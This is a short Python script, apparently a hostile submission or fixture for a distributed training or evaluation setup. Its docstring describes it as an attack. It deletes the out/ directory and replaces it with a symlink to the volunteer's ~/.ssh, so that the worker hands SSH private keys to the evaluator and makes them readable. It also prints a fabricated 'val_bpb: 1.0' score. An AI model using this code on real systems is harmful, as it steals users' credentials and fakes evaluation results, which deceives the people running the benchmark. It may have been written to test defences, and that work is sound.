"""Attack: replace out/ by a symbolic link to the volunteer's ~/.ssh, for the worker to
hand the evaluator (and, linking it, make the private key readable to every user)."""

import os
import shutil

HOME = os.environ.get("HOSTILE_HOME", "/root")  # worst case: its real path, else a guess

shutil.rmtree("out")
os.symlink(os.path.join(HOME, ".ssh"), "out")
print(f"out/ now leads to {os.readlink('out')}")
print("---")
print("val_bpb: 1.0")
